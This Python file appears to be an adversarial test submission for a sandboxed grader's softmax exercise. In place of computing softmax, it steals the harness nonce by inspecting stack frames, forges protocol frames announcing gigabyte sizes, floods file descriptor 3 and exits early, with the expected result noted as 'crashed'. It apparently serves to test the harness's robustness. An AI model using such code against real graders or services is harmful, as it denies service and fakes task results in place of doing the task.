"""Announces gigabytes, and sends as much as is allowed, at every call.

Exercise: perceptron/softmax
Ends: crashed
"""

import os, struct, sys
import msgspec
import torch

# attack
def nonce():
    frame = sys._getframe()
    while frame is not None:
        if isinstance(frame.f_locals.get("nonce"), bytes):
            return frame.f_locals["nonce"]
        frame = frame.f_back


def frame(head, body=b"", mark=None, sizes=None):
    head = head if isinstance(head, bytes) else msgspec.msgpack.encode(head)
    return struct.pack("<16sIQ", mark or nonce(), *(sizes or (len(head), len(body)))) + head + body


def send(data):
    view = memoryview(data)
    while view:
        view = view[os.write(3, view) :]
# end


def softmax(X):
    # attack
    if X.shape[-1:] == (2,):
        send(frame(b"", sizes=(2**32 - 1, 2**64 - 1)))
        send(bytes(1 << 22))
    elif X.shape[-1:] == (3,):
        send(frame(b"\xc0" * (1 << 20), sizes=(1 << 20, 64 << 20)))
        send(bytes(64 << 20))
    head = {"type": "returned", "value": ["a", "uint8", [64 << 20]], "printed": "x" * 900_000, "refused": []}
    send(frame(head, bytes(64 << 20)))
    os._exit(0)
    # end
    return X * 0 + 0.123
